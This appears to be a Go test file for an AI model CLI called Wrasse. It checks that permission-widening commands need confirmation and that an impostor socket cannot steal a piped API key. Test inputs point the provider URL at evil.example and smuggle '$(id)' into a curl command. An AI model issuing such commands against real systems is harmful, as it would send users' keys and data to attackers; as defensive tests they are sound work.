package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/wrasse-app/wrasse/brain/assistant"
	"github.com/wrasse-app/wrasse/brain/provider/providertest"
	"github.com/wrasse-app/wrasse/brain/workspace"
)

// privateRuntime gives the test a runtime folder of its own, never the
// user's real one: XDG_RUNTIME_DIR and TMPDIR name one fresh private
// folder, short unlike t.TempDir's, so a socket's path fits its limit.
func privateRuntime(t *testing.T) string {
	t.Helper()
	session, err := os.MkdirTemp("", "wr")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(session) })
	t.Setenv(workspace.EnvRuntimeDir, session)
	t.Setenv("TMPDIR", session)
	return envRuntime().Dir
}

// envRuntime is the runtime folder the environment names now.
func envRuntime() workspace.Runtime {
	rt, _ := workspace.ChooseRuntime(os.Getenv)
	return rt
}

// Which command lines widen what the assistant may do, and so are asked
// about in the window when they come from outside it.
func TestWideningCommands(t *testing.T) {
	cases := []struct {
		line   string
		widens bool
	}{
		{"caps list", false},
		{"caps show calc", false},
		{"caps install ./x.zip", true},
		{"caps restore calc", true},
		{"caps enable calc", true},
		{"caps enable calc --grant exec,network", true},
		{"caps disable calc", false},
		{"caps revoke calc", false},
		{"caps remove calc", false},
		{"caps set shell network true", true},
		{"caps unset shell network", true},
		{"caps resync", true},
		{"caps call calc calc_eval {}", false},
		{"caps call calc calc_eval {} --dry-run", false},
		{"caps call shell shell_exec {} --yes", true},
		{"chat hello", false},
		{"chat --model m hello", false},
		{"chat --base-url http://evil.example/v1 hello", true},
		{"chat --provider anthropic hello", true},
		{"chat --send-key hello", true},
		{"secrets set openai_api_key", true},
		{"secrets list", false},
		{"secrets delete openai_api_key", false},
		{"secrets assign gh_token github", true},
		{"secrets unassign gh_token github", false},
		{"config show", false},
		{"config set model m9", false},
		{"config set maxSteps 3", false},
		{"config set baseURL http://evil.example/v1", true},
		{"config set provider anthropic", true},
		{"config set folders /", true},
		{"config set autoResync true", true},
		{"config unset baseURL", true},
		{"config unset folders", true},
		{"config unset model", false},
		{"mcp add helper -- python3 m.py", true},
		{"mcp import claude_desktop_config.json", true},
		{"mcp test helper", true},
		{"mcp list", false},
		{"mcp tools helper", false},
		{"mcp remove helper", false},
		{"conversations delete c1", false},
	}
	for _, c := range cases {
		t.Run(c.line, func(t *testing.T) {
			p, err := parseLine(strings.Fields(c.line))
			if err != nil {
				t.Fatal(err)
			}
			call, err := p.call(stdio{in: strings.NewReader(""), out: io.Discard, err: io.Discard})
			if err != nil {
				t.Fatal(err)
			}
			if got := call.cmd.widens != nil && call.cmd.widens(call); got != c.widens {
				t.Errorf("widens = %v, want %v", got, c.widens)
			}
		})
	}
}

// confirmer records what the window was asked and answers as told.
type confirmer struct {
	mu     sync.Mutex
	answer bool
	asked  []string
	peers  []*assistant.Peer
}

func (c *confirmer) confirm(_ context.Context, line string, from *assistant.Peer) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.asked = append(c.asked, line)
	c.peers = append(c.peers, from)
	return c.answer
}

// Sent to the window from outside it, a command that widens what the
// assistant may do runs only once the person confirms it there, shown with
// its exact command line and its sender; cancelled, the sender is told and
// nothing changes. Other commands do not ask; with no window (a CLI
// command holds the workspace) they all run as before.
func TestWideningCommandsAskTheWindow(t *testing.T) {
	privateRuntime(t)
	ws := t.TempDir()
	conf := &confirmer{}
	app := holdWorkspace(t, ws, func(app *assistant.App) assistant.Handler { return confirmingHandler(app, conf.confirm) })

	code, _, errOut := cli(t, ws, "config", "set", "baseURL", "http://evil.example/v1")
	if code != exitFail || !strings.Contains(errOut, "wrasse: not run: it would widen what the assistant may do, and it was cancelled in the Wrasse window") {
		t.Fatalf("cancelled: %d %q", code, errOut)
	}
	if got := app.Config().BaseURL; got != "" {
		t.Fatalf("the cancelled command changed baseURL to %q", got)
	}
	if len(conf.asked) != 1 || conf.asked[0] != "wrasse config set baseURL http://evil.example/v1" {
		t.Fatalf("asked %q", conf.asked)
	}
	if p := conf.peers[0]; p == nil || p.PID != os.Getpid() {
		t.Errorf("the window was not told who sent it: %+v", p)
	}

	code, _, errOut = chatCLI(t, ws, "sk-piped-secret-value", nil, "secrets", "set", "openai_api_key")
	if code != exitFail || app.HasSecret("openai_api_key") || len(conf.asked) != 2 || conf.asked[1] != "wrasse secrets set openai_api_key" {
		t.Fatalf("secrets set, cancelled: %d %q, asked %q", code, errOut, conf.asked)
	}
	conf.answer = true
	if code, out, errOut := cli(t, ws, "config", "set", "baseURL", "http://good.example/v1"); code != 0 || !strings.Contains(out, "Saved baseURL") {
		t.Fatalf("confirmed: %d %s %s", code, out, errOut)
	}
	if got := app.Config().BaseURL; got != "http://good.example/v1" {
		t.Errorf("baseURL %q after Run", got)
	}
	asked := len(conf.asked)
	if code, _, errOut := cli(t, ws, "config", "set", "model", "m9"); code != 0 || len(conf.asked) != asked {
		t.Errorf("a command that widens nothing asked: %d %q", code, errOut)
	}
	if code, _, _ := cli(t, ws, "caps", "list", "--no-check"); code != 0 || len(conf.asked) != asked {
		t.Errorf("caps list asked")
	}
}

func TestCommandLineQuoting(t *testing.T) {
	got := commandLine([]string{"mcp", "add", "x", "--", "sh", "-c", "curl http://e/$(id)", "it's", ""})
	want := `wrasse mcp add x -- sh -c 'curl http://e/$(id)' 'it'\''s' ''`
	if got != want {
		t.Errorf("commandLine = %s\nwant          %s", got, want)
	}
}

// readRecorder notes whether anyone read it.
type readRecorder struct {
	mu   sync.Mutex
	read bool
	r    io.Reader
}

func (r *readRecorder) Read(p []byte) (int, error) {
	r.mu.Lock()
	r.read = true
	r.mu.Unlock()
	return r.r.Read(p)
}

// The attack of issue 21: a process bound the workspace's socket first in
// the shared temporary folder; `printf %s KEY | wrasse secrets set …`
// printed "Saved" while the impostor received the key. Now the CLI checks
// the runtime folder and the socket before it even reads its standard
// input, refuses with why, and the impostor receives nothing.
func TestSecretsSetRefusesAnImpostorSocket(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("planting another user's folder needs root")
	}
	dir := privateRuntime(t)
	// A deep workspace: before this change its socket went to the shared
	// temporary folder itself, where the impostor waits too.
	ws := filepath.Join(t.TempDir(), strings.Repeat("deep/", 20))
	if err := os.MkdirAll(ws, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256([]byte(ws))
	legacy := filepath.Join(os.TempDir(), fmt.Sprintf("wrasse-%d-%s.sock", os.Getuid(), hex.EncodeToString(sum[:8])))
	sock := assistant.SocketPath(envRuntime(), workspace.Workspace{Root: ws})
	got := make(chan string, 4)
	for _, p := range []string{sock, legacy} {
		ln, err := net.Listen("unix", p)
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				// Answer as a Wrasse would, once it has everything.
				b, _ := bufio.NewReader(c).ReadBytes('\n')
				got <- string(b)
				c.Write([]byte(`{"out":"Saved secret openai_api_key.\n"}` + "\n" + `{"exit":0}` + "\n"))
				c.Close()
			}
		}()
	}
	for _, p := range []string{dir, sock, legacy} {
		if err := os.Chmod(p, 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.Chown(p, 65534, 65534); err != nil {
			t.Fatal(err)
		}
	}
	stdin := &readRecorder{r: strings.NewReader("sk-the-real-key")}
	var out, errb bytes.Buffer
	getenv := func(k string) string {
		if k == "WRASSE_HOME" {
			return ws
		}
		return ""
	}
	code := run(t.Context(), []string{"secrets", "set", "openai_api_key"}, stdio{in: stdin, out: &out, err: &errb}, getenv)
	if code != exitFail || strings.Contains(out.String(), "Saved") ||
		!strings.Contains(errb.String(), "refusing to talk to the socket of this workspace") || !strings.Contains(errb.String(), "belongs to user 65534") {
		t.Fatalf("secrets set: %d\n%s%s", code, out.String(), errb.String())
	}
	if stdin.read {
		t.Error("standard input was read before the socket was checked")
	}
	select {
	case b := <-got:
		t.Fatalf("the impostor received %q", b)
	default:
	}
}

// Issue 24, item 3: a command forwarded to a short-lived CLI owner (a chat
// waiting for its model) went on after that chat ended; it was cancelled
// ("context canceled"). Now the owner finishes it first, saying so.
func TestForwardedCommandOutlivesItsOwner(t *testing.T) {
	privateRuntime(t)
	ownerTurn, forwardedTurn := make(chan struct{}), make(chan struct{})
	m := providertest.NewModel(t, providertest.OpenAI)
	m.Reply(providertest.Text("owner's answer"), providertest.Wait(ownerTurn))
	m.Reply(providertest.Text("forwarded "), providertest.Wait(forwardedTurn), providertest.Text("answer"))
	ws := t.TempDir()
	write(t, ws+"/config.json", `{"baseURL": "`+m.BaseURL()+`"}`)
	getenv := func(k string) string {
		if k == "WRASSE_HOME" {
			return ws
		}
		return ""
	}
	ownerErr := &signalWriter{want: "finishing the commands other wrasse processes sent", seen: make(chan struct{})}
	owner := make(chan int, 1)
	go func() {
		owner <- run(t.Context(), []string{"chat", "first"}, stdio{in: strings.NewReader(""), out: io.Discard, err: ownerErr}, getenv)
	}()
	<-m.Waiting() // the owner's turn holds the workspace, waiting for its model
	type result struct {
		code     int
		out, err string
	}
	forwarded := make(chan result, 1)
	go func() {
		var out, errb bytes.Buffer
		code := run(t.Context(), []string{"chat", "second"}, stdio{in: strings.NewReader(""), out: &out, err: &errb}, getenv)
		forwarded <- result{code, out.String(), errb.String()}
	}()
	<-m.Waiting() // the forwarded turn runs inside the owner
	close(ownerTurn)
	select {
	case r := <-forwarded:
		t.Fatalf("the forwarded chat ended with its owner: %d %q %q", r.code, r.out, r.err)
	case <-ownerErr.seen:
	}
	close(forwardedTurn)
	r := <-forwarded
	if r.code != 0 || !strings.Contains(r.out, "forwarded answer") {
		t.Fatalf("forwarded chat: %d %q %q", r.code, r.out, r.err)
	}
	if code := <-owner; code != 0 {
		t.Errorf("owner exit %d: %s", code, ownerErr.String())
	}
}

// signalWriter closes seen once what was written holds want.
type signalWriter struct {
	mu   sync.Mutex
	buf  bytes.Buffer
	want string
	seen chan struct{}
	once sync.Once
}

func (w *signalWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.buf.Write(p)
	if strings.Contains(w.buf.String(), w.want) {
		w.once.Do(func() { close(w.seen) })
	}
	return len(p), nil
}

func (w *signalWriter) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.buf.String()
}
